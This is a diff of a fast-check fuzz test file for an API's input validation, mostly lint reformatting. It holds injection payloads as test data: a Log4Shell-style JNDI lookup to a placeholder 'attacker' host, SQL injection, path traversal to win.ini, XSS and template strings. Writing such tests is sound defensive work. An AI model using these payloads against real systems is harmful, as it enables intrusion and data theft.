@@ -32,6 +32,7 @@ const injections = [
   '..\\..\\windows\\win.ini',
   '/governments/26000',
   '<script>alert(1)</script>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style injection, literally
   '${jndi:ldap://attacker/x}',
   '{{7*7}}',
   '%s%s%s%n',
@@ -117,14 +118,42 @@ const notJson = fc.constantFrom(
 
 /** Government codes that are not in the registry or not codes at all. */
 const badGov = fc.oneof(
-  fc.constantFrom('99999', '00000', '1100', '110000', '11000 ', ' 11000', '11000\u0000', '../26000', '11000/../26000', '%31%31%30%30%30', '１１０００', "11000' OR '1'='1", '*', ''),
-  fc.string({ unit: 'binary', maxLength: 12 }).map((s) => s.toWellFormed()).filter((s) => !/^\d{5}$/.test(s)),
+  fc.constantFrom(
+    '99999',
+    '00000',
+    '1100',
+    '110000',
+    '11000 ',
+    ' 11000',
+    '11000\u0000',
+    '../26000',
+    '11000/../26000',
+    '%31%31%30%30%30',
+    '１１０００',
+    "11000' OR '1'='1",
+    '*',
+    '',
+  ),
+  fc
+    .string({ unit: 'binary', maxLength: 12 })
+    .map((s) => s.toWellFormed())
+    .filter((s) => !/^\d{5}$/.test(s)),
 );
 
 /** A value of a type other than the sample's, so that the field's schema must refuse it. */
 function wrongTypeFor(sample: unknown): fc.Arbitrary<unknown> {
-  if (typeof sample === 'string') return fc.oneof(hostileNumber, hostileStructure.filter((v) => v !== null), fc.boolean());
-  if (typeof sample === 'number') return fc.oneof(hostileString, hostileStructure.filter((v) => v !== null), fc.boolean());
+  if (typeof sample === 'string')
+    return fc.oneof(
+      hostileNumber,
+      hostileStructure.filter((v) => v !== null),
+      fc.boolean(),
+    );
+  if (typeof sample === 'number')
+    return fc.oneof(
+      hostileString,
+      hostileStructure.filter((v) => v !== null),
+      fc.boolean(),
+    );
   if (typeof sample === 'boolean') return fc.oneof(hostileString, hostileNumber);
   if (Array.isArray(sample)) return fc.oneof(hostileString, hostileNumber, fc.constant({ $ne: null }));
   return fc.oneof(hostileString, hostileNumber, fc.constant([]));
@@ -139,7 +168,8 @@ const isRead = (route: Route): boolean => route.method === 'GET';
 let oversized: string | undefined;
 function oversizedBody(route: Route): string {
   const limit = route.maxBodyBytes ?? DEFAULT_MAX_BODY_BYTES;
-  oversized = oversized && oversized.length > limit ? oversized : JSON.stringify({ filler: 'x'.repeat(Math.max(limit, DEFAULT_MAX_BODY_BYTES) + 1) });
+  oversized =
+    oversized && oversized.length > limit ? oversized : JSON.stringify({ filler: 'x'.repeat(Math.max(limit, DEFAULT_MAX_BODY_BYTES) + 1) });
   return oversized;
 }
 
@@ -155,7 +185,10 @@ function defects(route: Route, sample: CallOptions, typed: CallOptions): fc.Arbi
   const typedKeys = Object.keys(typedBody);
   const list: fc.Arbitrary<HostileRequest>[] = [
     unknownKey.chain((key) =>
-      hostileValue.map((value) => ({ defect: hasBody(route) ? 'unknown-field' : 'unexpected-body', options: { ...sample, body: { ...body, [key]: value } } })),
+      hostileValue.map((value) => ({
+        defect: hasBody(route) ? 'unknown-field' : 'unexpected-body',
+        options: { ...sample, body: { ...body, [key]: value } },
+      })),
     ),
     fc.constantFrom(...(keys.length > 0 ? keys : ['a'])).chain((key) =>
       hostileValue.map((value) => {
@@ -180,9 +213,11 @@ function defects(route: Route, sample: CallOptions, typed: CallOptions): fc.Arbi
   ];
   if (typedKeys.length > 0) {
     list.push(
-      fc.constantFrom(...typedKeys).chain((key) =>
-        wrongTypeFor(typedBody[key]).map((value) => ({ defect: 'wrong-type', options: { ...sample, body: { ...body, [key]: value } } })),
-      ),
+      fc
+        .constantFrom(...typedKeys)
+        .chain((key) =>
+          wrongTypeFor(typedBody[key]).map((value) => ({ defect: 'wrong-type', options: { ...sample, body: { ...body, [key]: value } } })),
+        ),
     );
   }
   if (route.path.includes('{gov}')) {
@@ -194,29 +229,38 @@ function defects(route: Route, sample: CallOptions, typed: CallOptions): fc.Arbi
 /** Hostile values that may be valid on their own: in body fields, query values, path parameters, headers. */
 function hostileTouches(sample: CallOptions): fc.Arbitrary<CallOptions> {
   const touches: fc.Arbitrary<(o: CallOptions) => CallOptions>[] = [
-    fc.record({ name: fc.constantFrom('Idempotency-Key', 'X-Forwarded-For', 'Content-Type', 'Authorization', 'X-Amzn-Trace-Id'), value: hostileString }).map(
-      ({ name, value }) => (o: CallOptions) => ({ ...o, headers: { ...o.headers, [name]: value } }),
-    ),
+    fc
+      .record({
+        name: fc.constantFrom('Idempotency-Key', 'X-Forwarded-For', 'Content-Type', 'Authorization', 'X-Amzn-Trace-Id'),
+        value: hostileString,
+      })
+      .map(({ name, value }) => (o: CallOptions) => ({ ...o, headers: { ...o.headers, [name]: value } })),
   ];
   const bodyKeys = Object.keys(asObject(sample.body));
   if (bodyKeys.length > 0) {
     touches.push(
-      fc.record({ key: fc.constantFrom(...bodyKeys), value: hostileValue }).map(({ key, value }) => (o: CallOptions) => ({ ...o, body: { ...asObject(o.body), [key]: value } })),
+      fc.record({ key: fc.constantFrom(...bodyKeys), value: hostileValue }).map(({ key, value }) => (o: CallOptions) => ({
+        ...o,
+        body: { ...asObject(o.body), [key]: value },
+      })),
     );
   }
   const queryKeys = Object.keys(sample.query ?? {});
   if (queryKeys.length > 0) {
     touches.push(
-      fc.record({ key: fc.constantFrom(...queryKeys), value: hostileString }).map(({ key, value }) => (o: CallOptions) => ({ ...o, query: { ...o.query, [key]: value } })),
+      fc.record({ key: fc.constantFrom(...queryKeys), value: hostileString }).map(({ key, value }) => (o: CallOptions) => ({
+        ...o,
+        query: { ...o.query, [key]: value },
+      })),
     );
   }
   const paramKeys = Object.keys(sample.params ?? {}).filter((key) => key !== 'gov');
   if (paramKeys.length > 0) {
     touches.push(
       // A URL cannot carry an unpaired surrogate: API Gateway would hand over U+FFFD.
-      fc.record({ key: fc.constantFrom(...paramKeys), value: hostileString.map((v) => v.toWellFormed()) }).map(
-        ({ key, value }) => (o: CallOptions) => ({ ...o, params: { ...o.params, [key]: value } }),
-      ),
+      fc
+        .record({ key: fc.constantFrom(...paramKeys), value: hostileString.map((v) => v.toWellFormed()) })
+        .map(({ key, value }) => (o: CallOptions) => ({ ...o, params: { ...o.params, [key]: value } })),
     );
   }
   return fc.array(fc.oneof(...touches), { maxLength: 3 }).map((changes) => changes.reduce((o, change) => change(o), sample));
